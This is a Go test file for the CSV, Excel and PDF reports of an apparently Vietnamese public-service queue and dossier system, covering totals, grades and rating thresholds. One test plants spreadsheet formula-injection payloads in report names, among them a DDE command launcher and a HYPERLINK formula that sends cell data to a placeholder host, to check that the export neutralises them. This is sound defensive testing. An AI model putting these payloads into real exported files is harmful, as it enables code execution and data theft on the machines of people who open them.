package reportfile

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"motcua/internal/api"
	"motcua/internal/intake"
	"motcua/internal/pdftext"
	"motcua/internal/queue"
)

// sample is a week of a small office: two services, two counters, two
// clerks, a transfer, ratings, and dossiers.
func sample() Report {
	o := queue.Office{Name: "UBND phường Thử", TimeZone: "Asia/Ho_Chi_Minh",
		Services: []queue.ServiceConfig{{ID: "ho_tich", Name: "Hộ tịch", RangeStart: 1001, RangeEnd: 1999}, {ID: "chung_thuc", Name: "Chứng thực", RangeStart: 2001, RangeEnd: 2999}},
		Counters: []queue.CounterConfig{{Number: 1, Services: []string{"ho_tich"}}, {Number: 2, Services: []string{"chung_thuc", "ho_tich"}}}}
	loc, _ := time.LoadLocation("Asia/Ho_Chi_Minh")
	day0 := time.Date(2026, 11, 23, 7, 30, 0, 0, loc)
	r := queue.NewReport(o, "20261123", "20261127")
	for d := range 5 {
		for i := range 20 {
			issued := day0.AddDate(0, 0, d).Add(time.Duration(i*17) * time.Minute)
			svc := []string{"ho_tich", "chung_thuc"}[i%2]
			t := queue.Ticket{Day: queue.DayOf(issued, loc), ServiceID: svc, FirstServiceID: svc, State: queue.Done, Counter: 1 + i%2, Clerk: []string{"lan", "minh"}[i%2],
				IssuedAt: issued, QueuedAt: issued, CalledAt: issued.Add(time.Duration(5+i) * time.Minute)}
			t.DoneAt = t.CalledAt.Add(7 * time.Minute)
			if i == 3 {
				t.FirstServiceID = "chung_thuc"
				t.ServiceID = "ho_tich"
			}
			if i == 19 {
				t.State, t.CalledAt, t.DoneAt, t.Counter, t.Clerk = queue.Expired, time.Time{}, time.Time{}, 0, ""
			}
			if i%3 == 0 {
				t.Rating = &queue.Rating{Option: []string{"very_satisfied", "satisfied", "unsatisfied"}[i%9/3]}
			}
			r.Add(t)
		}
	}
	return Report{Office: o.Name, From: day0, To: day0.AddDate(0, 0, 4), Made: day0.AddDate(0, 0, 5),
		Figures: api.Report{Report: r.Finish(), Dossiers: &intake.Period{Received: 12, Resolved: 10, Early: 5, OnTime: 4, Late: 1, OnTimeRate: 0.9, Indicator1: 1.4, Indicator3: 1.8},
			DossiersByProcedure: map[string]*intake.Period{"1.001193 Đăng ký khai sinh": {Received: 12, Resolved: 10, Early: 5, OnTime: 4, Late: 1, OnTimeRate: 0.9}},
			DossiersByMonth:     []api.MonthPeriod{{Month: "2026-11", Period: intake.Period{Received: 12, Resolved: 10, OnTimeRate: 0.9}}}},
		Clerks: map[string]string{"lan": "Nguyễn Thị Lan"}, Rating: queue.DefaultRating().Options}
}

func TestCSV(t *testing.T) {
	r := sample()
	raw := CSV(r)
	if !bytes.HasPrefix(raw, []byte("\xef\xbb\xbf")) {
		t.Fatal("no byte-order mark")
	}
	rd := csv.NewReader(bytes.NewReader(raw[3:]))
	rd.FieldsPerRecord = -1
	lines, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(lines, func(l []string) bool { return len(l) > 0 && l[0] == "Cả văn phòng" })
	if i < 0 || lines[i-1][1] != "Cấp số / Issued" || lines[i][1] != "100" || lines[i][2] != "95" {
		t.Fatalf("the total's lines: %q", lines[max(0, i-1):i+1])
	}
	if !slices.ContainsFunc(lines, func(l []string) bool {
		return len(l) == 2 && strings.HasPrefix(l[0], "Tỉ lệ đúng hạn") && l[1] == "0.9000" // a share, as a fraction to 0.0001
	}) {
		t.Error("no dossiers' on-time rate")
	}
	// Every figure one way: a dot, fixed decimals, never a comma; the first
	// line says so.
	if !strings.Contains(lines[0][2], "dấu chấm thập phân") {
		t.Errorf("the first line: %q", lines[0])
	}
	for _, l := range lines[1:] {
		for _, c := range l[1:] {
			if regexp.MustCompile(`^-?\d+,\d+$|^\d+\.\d{5,}$`).MatchString(c) {
				t.Errorf("a figure written another way: %q in %q", c, l)
			}
		}
	}
}

// The workbook reads back: a sheet per grouping, the header, the figures as
// numbers (the services' served sum to the total's), a chart, the dossiers.
func TestXLSX(t *testing.T) {
	r := sample()
	raw, err := XLSX(r)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, want := f.GetSheetList(), []string{"Tổng hợp", "Dịch vụ", "Quầy", "Cán bộ", "Ngày", "Giờ", "Hồ sơ theo thủ tục", "Hồ sơ theo tháng", "Đánh giá", "Hồ sơ", "Chấm điểm"}; !slices.Equal(got, want) {
		t.Fatalf("sheets %q, want %q", got, want)
	}
	cell := func(sheet, at string) string {
		v, err := f.GetCellValue(sheet, at, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	if h := cell("Tổng hợp", "B3"); !strings.HasPrefix(h, "Cấp số") || cell("Tổng hợp", "B4") != "100" || cell("Tổng hợp", "C4") != "95" {
		t.Errorf("the total sheet: header %q, issued %q, served %q", h, cell("Tổng hợp", "B4"), cell("Tổng hợp", "C4"))
	}
	served := 0
	for row := 4; cell("Dịch vụ", "A"+strconv.Itoa(row)) != ""; row++ {
		n, _ := strconv.Atoi(cell("Dịch vụ", "C"+strconv.Itoa(row)))
		served += n
	}
	if served != 95 {
		t.Errorf("the services' served add up to %d, want the total's 95", served)
	}
	if got := cell("Cán bộ", "A4"); got != "Nguyễn Thị Lan (lan)" {
		t.Errorf("the first clerk is %q", got)
	}
	if got := cell("Hồ sơ", "B16"); got != "0.9" {
		t.Errorf("the on-time rate cell: %q", got)
	}
	if panes, err := f.GetPanes("Dịch vụ"); err != nil || !panes.Freeze || panes.YSplit != 3 {
		t.Errorf("the header is not frozen: %+v %v", panes, err)
	}
	z, _ := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	charts := 0
	for _, file := range z.File {
		if strings.HasPrefix(file.Name, "xl/charts/chart") {
			charts++
		}
	}
	if charts != 5 { // services, counters, days, hours, on time by month
		t.Errorf("%d charts, want 5", charts)
	}
}

// The PDF reads back as the desk head signs it.
func TestPDF(t *testing.T) {
	raw, err := PDF(sample())
	if err != nil {
		t.Fatal(err)
	}
	text := pdftext.Of(t, raw, true) // as laid out: a table's row is one line
	for _, want := range []string{"BÁO CÁO KẾT QUẢ PHỤC VỤ TẠI BỘ PHẬN MỘT CỬA", "Từ ngày 23/11/2026 đến ngày 27/11/2026", "Theo dịch vụ", "Hộ tịch", "Chứng thực",
		"Nguyễn Thị Lan (lan)", "Cả văn phòng 100 95 0 0 5", "On-time rate 90,0%", "TRƯỞNG BỘ PHẬN MỘT CỬA", "trang 1/",
		"Hồ sơ theo thủ tục", "1.001193 Đăng ký khai sinh", "Hồ sơ theo tháng", "11/2026", "Đánh giá: Rất hài lòng",
		"total time", "attitude", "indicators with data", "scaled score"} { // the grade table's headers whole
		if strings.Contains(text, "…/") {
			t.Errorf("a header cut short in the PDF")
		}
		if !strings.Contains(text, want) {
			t.Errorf("the PDF lacks %q:\n%s", want, text)
		}
	}
}

// Circular 01's indicators and grades by hand: attitude from the ratings
// (top level 2, the other satisfied 1, not satisfied 0, no rating left out),
// the agency's score scaled from the indicators with enough cases (MinCases)
// to nine, a clerk's to three; fewer cases are "not enough data" with their
// count, never a grade — one rating does not make an agency "Xuất sắc".
func TestGrades(t *testing.T) {
	o := queue.Office{Name: "X", Services: []queue.ServiceConfig{{ID: "a", Name: "A", RangeStart: 1, RangeEnd: 999}}, Counters: []queue.CounterConfig{{Number: 1, Services: []string{"a"}}}}
	report := func(ratings map[string][]string) *queue.Report {
		rep := queue.NewReport(o, "20261101", "20261130")
		for clerk, opts := range ratings {
			for _, opt := range opts {
				rep.Add(queue.Ticket{Day: "20261101", ServiceID: "a", FirstServiceID: "a", State: queue.Done, Counter: 1, Clerk: clerk,
					IssuedAt: time.Now(), QueuedAt: time.Now(), CalledAt: time.Now(), Rating: &queue.Rating{Option: opt}})
			}
		}
		return rep.Finish()
	}
	times := func(n int, opt string) []string { return slices.Repeat([]string{opt}, n) }
	lan := slices.Concat(times(30, "very_satisfied"), times(10, "satisfied"), times(10, "unsatisfied"), times(50, ""))
	r := Report{Figures: api.Report{Report: report(map[string][]string{"lan": lan, "minh": times(2, "very_satisfied")}),
		Dossiers:        &intake.Period{Resolved: 12, Indicator1: 1.0, Indicator3: 1.7},
		DossiersByClerk: map[string]*intake.Period{"lan": {Resolved: 1, Indicator1: 0, Indicator3: 0}}}, Rating: queue.DefaultRating().Options}
	g := r.Grades()
	// The office's ratings: 32 top (2 points), 10 satisfied (1), 10 not (0),
	// 50 without an answer: 74 / 52 = 1.4; (1.0 + 1.7 + 1.4) × 9/3 = 12.3: Tốt.
	if a := g[0]; a.Indicator7 != 1.4 || a.Available != 3 || a.Score != 12.3 || a.Grade != "Tốt" || a.Ratings != 52 {
		t.Errorf("the agency: %+v", a)
	}
	if len(g) != 3 || g[1].Who != "lan" || g[2].Who != "minh" {
		t.Fatalf("the clerks: %+v", g)
	}
	// lan: 50 ratings, 70 / 50 = 1.4; one dossier resolved is not enough:
	// 1.4 scaled from one indicator to three is 4.2.
	if lan := g[1]; lan.Indicator7 != 1.4 || lan.Available != 1 || lan.Score != 4.2 || lan.Grade != "Đạt (3,5–5)" {
		t.Errorf("lan: %+v", lan)
	}
	if cells := g[1].Cells(','); cells[1] != "chưa đủ số liệu / not enough data (1)" || cells[3] != "1,4" || cells[5] != "4,2" {
		t.Errorf("lan's cells: %q", cells)
	}
	// minh: two ratings, no dossier: no grade.
	if minh := g[2]; minh.Available != 0 || minh.Grade != "" {
		t.Errorf("minh: %+v", minh)
	}
	if v := g[2].Values(); v[3] != "chưa đủ số liệu / not enough data (2)" || v[5] != "—" || v[6] != "chưa đủ số liệu / not enough data" {
		t.Errorf("minh's values: %v", v)
	}
	if cells := g[1].Cells('.'); cells[5] != "4.2" {
		t.Errorf("lan's score for a machine: %q", cells[5])
	}
	// One rating and nothing else: the agency has no grade.
	one := Report{Figures: api.Report{Report: report(map[string][]string{"lan": {"very_satisfied"}})}, Rating: queue.DefaultRating().Options}
	if a := one.Grades()[0]; a.Available != 0 || a.Grade != "" {
		t.Errorf("one rating graded the agency: %+v", a)
	}
}

// Names an office or a province typed — the office's, a service's, a
// clerk's, a procedure's — that a spreadsheet would take for a formula
// come out of the CSV as text (the office's report and the province's
// /bao-cao both write it here); the figures stay numbers.
func TestCSVCarriesNoFormula(t *testing.T) {
	r := sample()
	r.Office = `=cmd|' /C calc'!A0`
	r.Figures.Services[0].Name = `=HYPERLINK("http://x.example/?"&A1,"Bấm")`
	r.Clerks["lan"] = "@SUM(1+1)"
	r.Figures.DossiersByProcedure = map[string]*intake.Period{"+1.001 Khai sinh": {Received: 3}}
	rd := csv.NewReader(bytes.NewReader(CSV(r)[3:]))
	rd.FieldsPerRecord = -1
	lines, err := rd.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	numbers := 0
	for _, l := range lines {
		for _, cell := range l {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("a live formula in the CSV: %q", cell)
				}
			}
			if _, err := strconv.ParseFloat(cell, 64); err == nil {
				numbers++
			}
		}
	}
	if numbers < 50 || !strings.Contains(string(CSV(r)), `'=cmd|`) {
		t.Errorf("%d numbers; the office's name as %q", numbers, lines[0][0])
	}
}

// The grades sheet holds its figures as numbers (a sum over them works),
// with words only where there is no figure.
func TestGradesSheetHoldsNumbers(t *testing.T) {
	r := sample()
	r.Figures.Dossiers.Resolved = 12
	raw, err := XLSX(r)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, cell := range []string{"B4", "C4", "E4"} { // the agency's indicators 1 and 3, its indicators with data
		typ, err := f.GetCellType("Chấm điểm", cell)
		v, _ := f.GetCellValue("Chấm điểm", cell, excelize.Options{RawCellValue: true})
		if err != nil || typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
			t.Errorf("Chấm điểm!%s is text %q (%v), want a number", cell, v, err)
		}
	}
}

// A rate or points made of fewer than MinCases cases is words with its
// count, never a number: QĐ 766's 20 points of three dossiers received and
// none resolved, a satisfied share of two answers.
func TestFewCasesAreNotEnoughData(t *testing.T) {
	d := &intake.Period{Received: 3, OpenWithin: 3, Progress766: 20, Decree61Rate: 0}
	for _, f := range DossierFigures(d) {
		if strings.HasPrefix(f.Label, "QĐ 766") {
			if f.Text() != "chưa đủ số liệu / not enough data (3)" || f.Cell() != "chưa đủ số liệu / not enough data (3)" {
				t.Errorf("QĐ 766 of 3 received: %q %v", f.Text(), f.Cell())
			}
		}
		if strings.HasPrefix(f.Label, "Tiếp nhận") && f.Text() != "3" {
			t.Errorf("a count is always shown: %q", f.Text())
		}
	}
	r := sample()
	r.Figures.Total.Rated, r.Figures.Total.SatisfiedShare = 2, 1
	for _, f := range r.RatingFigures() {
		if strings.HasPrefix(f.Label, "Tỉ lệ hài lòng") && f.Text() != "chưa đủ số liệu / not enough data (2)" {
			t.Errorf("a satisfied share of 2 answers: %q", f.Text())
		}
	}
}

// The fewest cases is the office's setting: at 2, two answers make a
// satisfied share and a grade of attitude.
func TestMinCasesIsTheOffices(t *testing.T) {
	r := sample()
	r.Figures.Total.Rated, r.Figures.Total.SatisfiedShare = 2, 1
	r.MinCases = 2
	for _, f := range r.RatingFigures() {
		if strings.HasPrefix(f.Label, "Tỉ lệ hài lòng") && f.Text() != "100,0%" {
			t.Errorf("a satisfied share of 2 answers at 2: %q", f.Text())
		}
	}
	d := &intake.Period{Received: 3, OpenWithin: 3, Progress766: 20}
	r.Figures.Dossiers = d
	for _, f := range r.Dossiers() {
		if strings.HasPrefix(f.Label, "QĐ 766") && f.Text() != "20,00" {
			t.Errorf("QĐ 766 of 3 at 2: %q", f.Text())
		}
	}
}

// Remote and booked tickets get a table by channel and their own figures:
// checked in, lapsed, called on time, bookings not come — rates only from
// enough cases.
func TestChannelFigures(t *testing.T) {
	r := sample()
	r.Figures.Channels = []queue.ChannelTally{{Channel: queue.WalkIn, Tally: queue.Tally{Issued: 30}},
		{Channel: queue.Remote, CheckedIn: 8, Lapsed: 2, Tally: queue.Tally{Issued: 10}},
		{Channel: queue.ByBooked, Punctual: 3, Tally: queue.Tally{Issued: 4, Called: 4}}}
	r.Figures.Bookings = &api.BookingFigures{Taken: 5, Arrived: 4}
	texts := map[string]string{}
	for _, f := range r.ChannelFigures() {
		texts[f.Label] = f.Text()
	}
	for label, want := range map[string]string{
		"Số từ xa đã đến xác nhận / Remote numbers checked in":                                 "8",
		"Tỉ lệ số từ xa quá hạn / Remote lapsed share":                                         "20,0%",
		"Lịch hẹn được gọi đúng giờ (trong 10 phút) / Bookings called on time (within 10 min)": "chưa đủ số liệu / not enough data (4)",
		"Lịch hẹn không đến / Bookings not come":                                               "1",
		"Tỉ lệ lịch hẹn không đến / Booked no-show rate":                                       "chưa đủ số liệu / not enough data (5)",
	} {
		if texts[label] != want {
			t.Errorf("%s: %q, want %q", label, texts[label], want)
		}
	}
	names := []string{}
	for _, tb := range r.tables() {
		names = append(names, tb.Sheet)
	}
	if names[1] != "Cách lấy số" {
		t.Errorf("the tables: %v, want the channels after the total", names)
	}
	csv := string(CSV(r))
	if !strings.Contains(csv, "Lấy số từ xa, đặt lịch / Remote and booked") || !strings.Contains(csv, "Lấy số từ xa / Remote") {
		t.Error("the CSV lacks the channels")
	}
}
